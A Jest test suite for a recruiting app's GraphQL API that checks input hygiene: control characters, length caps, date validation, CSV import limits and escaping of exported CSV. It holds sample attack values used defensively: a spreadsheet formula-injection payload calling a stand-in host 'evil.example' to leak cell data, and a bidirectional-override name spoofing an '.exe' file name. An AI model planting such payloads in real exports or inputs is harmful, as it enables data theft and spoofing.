import { Role } from '../../libs/domain';
import { errorCode, TestApi } from '../../libs/testing';
import { DEFAULT_MAX_TEXT_LENGTH } from '../../src/common/text-rules';
import { BuiltInCatalogService } from '../../src/modules/catalog';
import { IMPORT_MAX_BYTES, IMPORT_MAX_ROWS } from '../../src/modules/candidates';

const CREATE_CANDIDATE = `mutation ($input: CreateCandidateInput!) { createCandidate(input: $input) { candidate { id name } } }`;
const IMPORT = `mutation ($input: ImportCandidatesInput!) {
  importCandidates(input: $input) { imported candidates { name } errors { line message } } }`;

describe('input hygiene', () => {
  const api = new TestApi();
  let recruiter: string;
  let recruiterId: string;

  beforeAll(() => api.start());
  afterAll(() => api.close());
  beforeEach(async () => {
    await api.reset();
    const signedIn = await api.signedIn('rita@example.com', [Role.RECRUITER, Role.HIRING_MANAGER]);
    recruiter = signedIn.token;
    recruiterId = signedIn.user.id;
  });

  const candidate = (input: Record<string, unknown>) =>
    api.gql(
      CREATE_CANDIDATE,
      { input: { name: 'Ada', email: 'ada@example.net', experienceLevel: 'MID', ...input } },
      recruiter,
    );

  it('refuses NUL bytes and control characters with BAD_USER_INPUT naming the field, never a 500', async () => {
    const nul = await candidate({ notes: 'fine\u0000then not' });
    expect(errorCode(nul)).toBe('BAD_USER_INPUT');
    expect(nul.errors![0]!.extensions.fields).toEqual({
      'input.notes': 'must not contain control characters (found U+0000)',
    });
    const escape = await candidate({ tags: ['ok', 'bell\u0007'] });
    expect(nul.errors![0]!.message).toMatch(/input\.notes/);
    expect(escape.errors![0]!.extensions.fields).toEqual({
      'input.tags[1]': 'must not contain control characters (found U+0007)',
    });
    // A scalar argument is covered too.
    const refresh = await api.gql('mutation ($t: String!) { refreshToken(refreshToken: $t) { accessToken } }', {
      t: 'abc\u0000',
    });
    expect(refresh.errors![0]!.extensions.fields).toEqual({
      refreshToken: 'must not contain control characters (found U+0000)',
    });
    // A lone surrogate is not text at all (and made the email validator throw).
    expect((await candidate({ email: 'ada\ud800@example.net' })).errors![0]!.extensions.fields).toEqual({
      'input.email': 'must be valid Unicode text (it contains a lone surrogate)',
    });
    // Line breaks and tabs are text, not control characters, in free text.
    expect((await candidate({ notes: 'line one\n\tline two' })).errors).toBeUndefined();
  });

  it('caps every free-text field: a default for all, a stricter limit where declared', async () => {
    const huge = await candidate({ notes: 'x'.repeat(DEFAULT_MAX_TEXT_LENGTH + 1) });
    expect(huge.errors![0]!.extensions.fields).toEqual({
      'input.notes': 'notes must be shorter than or equal to 10000 characters',
    });
    const search = await api.gql(
      'query ($s: String) { candidates(search: $s) { totalCount } }',
      { s: 'y'.repeat(DEFAULT_MAX_TEXT_LENGTH + 1) },
      recruiter,
    );
    expect(search.errors![0]!.extensions.fields).toEqual({
      search: `must be at most ${DEFAULT_MAX_TEXT_LENGTH} characters (got ${DEFAULT_MAX_TEXT_LENGTH + 1})`,
    });
    const longTag = await candidate({ tags: ['z'.repeat(51)] });
    expect(Object.keys(longTag.errors![0]!.extensions.fields!)).toEqual(['input.tags']);
    const manyTags = await candidate({ tags: Array.from({ length: 51 }, (_, index) => `t${index}`) });
    expect(errorCode(manyTags)).toBe('BAD_USER_INPUT');
  });

  it('refuses names that are blank after trimming or carry line breaks or bidirectional overrides', async () => {
    expect((await candidate({ name: '   ' })).errors![0]!.extensions.fields).toEqual({
      'input.name': 'must not be blank',
    });
    expect((await candidate({ name: 'Eve\u202Egnp.exe' })).errors![0]!.extensions.fields).toEqual({
      'input.name': 'must not contain tabs, line breaks or bidirectional controls (found U+202E)',
    });
    expect((await candidate({ name: 'Eve\nAdmin' })).errors![0]!.extensions.fields).toEqual({
      'input.name': 'must not contain tabs, line breaks or bidirectional controls (found U+000A)',
    });
    const position = await api.gql(
      'mutation ($input: CreatePositionInput!) { createPosition(input: $input) { position { id } } }',
      {
        input: {
          title: '\t ',
          level: 'MID',
          companyProfile: 'STARTUP',
          hiringManagerId: recruiterId,
          recruiterIds: [],
          planTemplateId: '00000000-0000-4000-8000-000000000000',
        },
      },
      recruiter,
    );
    expect(position.errors![0]!.extensions.fields).toMatchObject({ 'input.title': 'must not be blank' });
    // Names in other scripts are names.
    expect((await candidate({ name: 'Zoë Ångström-Łukasiewicz 山田' })).data!.createCandidate.candidate.name).toBe(
      'Zoë Ångström-Łukasiewicz 山田',
    );
  });

  it('refuses invalid and out-of-range dates as BAD_USER_INPUT naming the field, in variables and in the query', async () => {
    const window = (from: string) =>
      api.gql(
        'query ($f: AnalyticsFilter) { pipelineSummary(filter: $f) { applications } }',
        { f: { from } },
        recruiter,
      );
    for (const [value, message] of [
      ['2026-02-30T10:00:00Z', '2026-02-30T10:00:00Z is not a date on the calendar.'],
      ['not a date', expect.stringMatching(/^A date-time must be ISO 8601 with a time zone/)],
      ['+275760-09-13T00:00:00Z', expect.stringMatching(/^A date-time must be ISO 8601/)],
      ['9999-12-31T00:00:00Z', 'A date must be between the years 1970 and 2999.'],
      ['2026-03-02T10:00:00', expect.stringMatching(/with a time zone/)],
    ] as const) {
      const result = await window(value);
      expect(errorCode(result)).toBe('BAD_USER_INPUT');
      expect(result.errors![0]!.extensions.fields).toEqual({ 'f.from': message });
    }
    const literal = await api.gql(
      '{ pipelineSummary(filter: { to: "2026-13-01T00:00:00Z" }) { applications } }',
      {},
      recruiter,
    );
    expect(errorCode(literal)).toBe('BAD_USER_INPUT');
    expect(literal.errors![0]!.extensions.fields).toEqual({
      'filter.to': '2026-13-01T00:00:00Z is not a date on the calendar.',
    });
    expect((await window('2026-03-02T10:00:00+01:00')).errors).toBeUndefined();
  });

  it('imports the good rows of a CSV with a NUL in row 3 and reports that row by line', async () => {
    const csv = [
      'name,email,experienceLevel',
      'One,one@example.net,MID',
      'Two,two@example.net,SENIOR',
      'Th\u0000ree,three@example.net,MID',
      'Four,four@example.net,JUNIOR',
      'Five,five@example.net,STAFF',
    ].join('\n');
    const result = await api.gql(IMPORT, { input: { csv } }, recruiter);
    expect(result.errors).toBeUndefined();
    expect(result.data!.importCandidates).toEqual({
      imported: 4,
      candidates: [{ name: 'One' }, { name: 'Two' }, { name: 'Four' }, { name: 'Five' }],
      errors: [{ line: 4, message: 'name must not contain control characters (found U+0000)' }],
    });
  });

  it('caps a CSV import by rows and bytes, saying both', async () => {
    const rows = Array.from({ length: IMPORT_MAX_ROWS + 1 }, (_, index) => `C${index},c${index}@example.net,MID`);
    const tooMany = await api.gql(
      IMPORT,
      { input: { csv: ['name,email,experienceLevel', ...rows].join('\n') } },
      recruiter,
    );
    expect(errorCode(tooMany)).toBe('BAD_USER_INPUT');
    expect(tooMany.errors![0]!.message).toBe(
      `The file has ${IMPORT_MAX_ROWS + 1} rows. An import takes at most ${IMPORT_MAX_ROWS} rows and ${IMPORT_MAX_BYTES} bytes (2 MiB): split it into several files.`,
    );
    // Two-byte characters: under the limit in characters, over it in bytes.
    const heavy = `name,email,experienceLevel\n${'é'.repeat(IMPORT_MAX_BYTES / 2 + 10)},x@example.net,MID`;
    const tooBig = await api.gql(IMPORT, { input: { csv: heavy } }, recruiter);
    expect(tooBig.errors![0]!.message).toMatch(
      new RegExp(`^The file has ${Buffer.byteLength(heavy)} bytes\\. An import takes at most`),
    );
    expect(tooBig.errors![0]!.extensions.fields).toEqual({
      'input.csv': `at most ${IMPORT_MAX_ROWS} rows and ${IMPORT_MAX_BYTES} bytes`,
    });
  });

  it('caps the request body', async () => {
    const response = await fetch(`${api.baseUrl}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${recruiter}` },
      body: JSON.stringify({ query: '{ me { id } }', variables: { pad: 'x'.repeat(5 * 1024 * 1024) } }),
    });
    expect(response.status).toBe(413);
  });

  it('neutralises spreadsheet formulas in the CSV it writes', async () => {
    await api.app.get(BuiltInCatalogService).load();
    const template = (await api.gql('{ planTemplates { id } }', {}, recruiter)).data!.planTemplates[0];
    const created = await api.gql(
      'mutation ($input: CreatePositionInput!) { createPosition(input: $input) { position { id } } }',
      {
        input: {
          title: 'Backend',
          level: 'MID',
          companyProfile: 'STARTUP',
          hiringManagerId: recruiterId,
          recruiterIds: [recruiterId],
          planTemplateId: template.id,
        },
      },
      recruiter,
    );
    const positionId = created.data!.createPosition.position.id;
    await api.gql('mutation ($id: ID!) { openPosition(id: $id) { position { id } } }', { id: positionId }, recruiter);
    const sources = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+2', '-2+3', '@SUM(A1:A2)', 'Referral'];
    for (const [index, source] of sources.entries()) {
      const made = await candidate({ email: `c${index}@example.net`, source });
      expect(made.errors).toBeUndefined();
      const applied = await api.gql(
        'mutation ($input: ApplyInput!) { apply(input: $input) { application { id } } }',
        { input: { candidateId: made.data!.createCandidate.candidate.id, positionId } },
        recruiter,
      );
      expect(applied.errors).toBeUndefined();
    }
    const csv = (await api.gql('{ analyticsCsv(table: STAGE_RATES_BY_SOURCE) }', {}, recruiter)).data!
      .analyticsCsv as string;
    const groups = csv
      .trim()
      .split('\n')
      .slice(1)
      .map((line) => line.split(',')[1]);
    expect(groups.sort()).toEqual(
      [`"'=HYPERLINK(""http://evil.example/?""&A1)"`, "'+1+2", "'-2+3", "'@SUM(A1:A2)", 'Referral'].sort(),
    );
  });
});
